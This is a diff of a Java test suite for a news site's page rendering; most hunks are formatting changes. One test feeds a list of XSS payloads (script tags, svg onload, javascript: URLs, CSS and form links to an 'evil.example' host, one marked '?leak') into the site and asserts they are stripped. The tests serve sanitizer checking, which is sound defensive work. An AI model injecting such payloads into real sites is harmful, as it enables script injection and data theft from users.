@@ -62,7 +62,10 @@ class SitePagesEdgeTest {
   void nearDuplicatesAreOneStoryThatNamesTheOtherSources() {
     site.publish(
         article("first").at(NOON),
-        article("second").at(NOON.plusSeconds(5)).source("bay-news", "Bay News").sameStoryAs("first"),
+        article("second")
+            .at(NOON.plusSeconds(5))
+            .source("bay-news", "Bay News")
+            .sameStoryAs("first"),
         article("third").at(NOON.plusSeconds(9)).source("coast", "Coast").sameStoryAs("first"),
         article("other").at(NOON.plusSeconds(1)));
 
@@ -78,8 +81,7 @@ class SitePagesEdgeTest {
   @Test
   void aWithdrawnLeadLeavesTheStoryToTheNextSource() {
     SampleArticle first = article("first").at(NOON);
-    site.publish(
-        first, article("second").at(NOON.plusSeconds(5)).sameStoryAs("first"));
+    site.publish(first, article("second").at(NOON.plusSeconds(5)).sameStoryAs("first"));
 
     site.publish(first.withdrawn(2, "KILL"));
 
@@ -104,7 +106,8 @@ class SitePagesEdgeTest {
     assertThat(page.select("#tags a").eachAttr("href"))
         .containsExactly("/tags/ann-marlow", "/tags/tidal-lines");
     assertThat(page.select("article.story .kicker a").attr("href")).isEqualTo("/topics/20000337");
-    assertThat(page.select("#origin a").attr("href")).isEqualTo("https://harbour-post.example/full");
+    assertThat(page.select("#origin a").attr("href"))
+        .isEqualTo("https://harbour-post.example/full");
     assertThat(page.select("link[rel=canonical]").attr("href"))
         .isEqualTo("https://harbour-post.example/full");
     assertThat(page.select(".byline").text()).isEqualTo("By Ada Writer");
@@ -118,7 +121,9 @@ class SitePagesEdgeTest {
   @Test
   void anArticlePageSaysTheSameInJsonLd() {
     SampleArticle it =
-        article("ld").headline("Why </script><b>tags</b> fail & fall").version(3, "CORRECTION")
+        article("ld")
+            .headline("Why </script><b>tags</b> fail & fall")
+            .version(3, "CORRECTION")
             .note("The fare is 4, not 5.");
     site.publish(it);
 
@@ -170,9 +175,17 @@ class SitePagesEdgeTest {
         .doesNotContain("ledger");
     for (String list :
         List.of(
-            "/", "/tags/quokka-trust", "/sources/harbour-post", "/languages/en",
-            "/search?q=quokka", "/feed.rss", "/feed.atom", "/feed.json",
-            "/tags/quokka-trust/feed.rss", "/sitemaps/0.xml", "/news-sitemap.xml",
+            "/",
+            "/tags/quokka-trust",
+            "/sources/harbour-post",
+            "/languages/en",
+            "/search?q=quokka",
+            "/feed.rss",
+            "/feed.atom",
+            "/feed.json",
+            "/tags/quokka-trust/feed.rss",
+            "/sitemaps/0.xml",
+            "/news-sitemap.xml",
             path(article("stays")))) {
       HttpResponse<String> answer = site.get(list);
       assertThat(answer.statusCode()).as(list).isEqualTo(200);
@@ -241,7 +254,11 @@ class SitePagesEdgeTest {
   @Test
   void whatDoesNotExistGetsAPageThatHelps() {
     for (String path :
-        List.of("/articles/none-00000000000000000000", "/tags/none", "/nothing", "/?after=x",
+        List.of(
+            "/articles/none-00000000000000000000",
+            "/tags/none",
+            "/nothing",
+            "/?after=x",
             "/articles/%00")) {
       HttpResponse<String> answer = site.get(path, "Accept", "text/html");
       assertThat(answer.statusCode()).as(path).isIn(400, 404);
@@ -260,12 +277,14 @@ class SitePagesEdgeTest {
         "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
         "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
         "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
-        "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
+        "<style>@import 'https://evil.example/x.css';"
+            + " body{background:url(javascript:alert(1))}</style>",
         "<div style=\"background:url(https://evil.example/?leak)\">x</div>",
         "<iframe src=\"https://evil.example\" srcdoc=\"<script>alert(1)</script>\"></iframe>",
         "<object data=\"https://evil.example\"></object><embed src=\"https://evil.example\">",
         "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
-        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=//evil.example\">",
+        "<base href=\"https://evil.example/\"><meta http-equiv=refresh"
+            + " content=\"0;url=//evil.example\">",
         "<link rel=stylesheet href=\"https://evil.example/x.css\">",
         "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
         "<template><script>alert(1)</script></template>",
@@ -292,22 +311,25 @@ class SitePagesEdgeTest {
       assertThat(answer.statusCode()).as(path).isEqualTo(200);
       Document page = Jsoup.parse(answer.body(), RunningSite.BASE);
       assertThat(page.select("script:not([type=application/ld+json])")).as(path).isEmpty();
-      assertThat(page.select("iframe, object, embed, svg, math, style, base, video, template, input"
-              + ":not(#q), meta[http-equiv]")).as(path).isEmpty();
+      assertThat(
+              page.select(
+                  "iframe, object, embed, svg, math, style, base, video, template, input"
+                      + ":not(#q), meta[http-equiv]"))
+          .as(path)
+          .isEmpty();
       assertThat(page.select("form").eachAttr("action")).as(path).containsExactly("/search");
       for (Element element : page.getAllElements()) {
         element
             .attributes()
-            .forEach(
-                attribute -> {
-                  String name = attribute.getKey();
-                  String value = attribute.getValue().replaceAll("\\s", "").toLowerCase();
-                  assertThat(name).as(path).doesNotStartWith("on").isNotEqualTo("style");
-                  if (name.equals("href") || name.equals("src")) {
-                    assertThat(value).as(path).doesNotStartWith("javascript:");
-                    assertThat(value).as(path).doesNotStartWith("data:");
-                  }
-                });
+            .forEach(attribute -> {
+              String name = attribute.getKey();
+              String value = attribute.getValue().replaceAll("\\s", "").toLowerCase();
+              assertThat(name).as(path).doesNotStartWith("on").isNotEqualTo("style");
+              if (name.equals("href") || name.equals("src")) {
+                assertThat(value).as(path).doesNotStartWith("javascript:");
+                assertThat(value).as(path).doesNotStartWith("data:");
+              }
+            });
       }
       assertThat(page.select("link[rel=stylesheet]")).as(path).hasSize(1);
       assertThat(page.select("#content")).as(path).hasSize(1);
@@ -343,16 +365,17 @@ class SitePagesEdgeTest {
     SampleArticle it =
         article("links")
             .body(
-                "<p><a href=\"/more?a=1&amp;b=2\">more</a> <a href=\"#note\">note</a></p>"
-                    + "<img src=\"/pier.jpg\" alt=\"The pier\"><img src=\"http://x.example/y.png\">");
+                "<p><a href=\"/more?a=1&amp;b=2\">more</a> <a href=\"#note\">note</a></p><img"
+                    + " src=\"/pier.jpg\" alt=\"The pier\"><img src=\"http://x.example/y.png\">");
     site.publish(it);
 
     Document page = site.page(path(it));
 
     assertThat(page.select("#body a").eachAttr("href"))
         .containsExactly("https://harbour-post.example/more?a=1&b=2");
-    assertThat(page.select("#body img")).singleElement().satisfies(
-        image -> {
+    assertThat(page.select("#body img"))
+        .singleElement()
+        .satisfies(image -> {
           assertThat(image.attr("src")).isEqualTo("https://harbour-post.example/pier.jpg");
           assertThat(image.attr("loading")).isEqualTo("lazy");
           assertThat(image.attr("referrerpolicy")).isEqualTo("no-referrer");
@@ -388,8 +411,10 @@ class SitePagesEdgeTest {
     site.publish(
         article("found").language(language).headline(headline), article("other").language("en"));
 
-    Document page = site.page("/search?q=" + java.net.URLEncoder.encode(words,
-        java.nio.charset.StandardCharsets.UTF_8));
+    Document page =
+        site.page(
+            "/search?q="
+                + java.net.URLEncoder.encode(words, java.nio.charset.StandardCharsets.UTF_8));
 
     assertThat(page.select("#results h2").eachText()).containsExactly(headline);
   }
@@ -411,7 +436,18 @@ class SitePagesEdgeTest {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"%27", "%22", "a%00b", "%26%7C%21", "%3Cscript%3E", "%5C", "(((", "-", "%EE%80%80"})
+  @ValueSource(
+      strings = {
+        "%27",
+        "%22",
+        "a%00b",
+        "%26%7C%21",
+        "%3Cscript%3E",
+        "%5C",
+        "(((",
+        "-",
+        "%EE%80%80"
+      })
   void anyQuestionGetsAnAnswer(String words) {
     site.publish(article("a"));
 
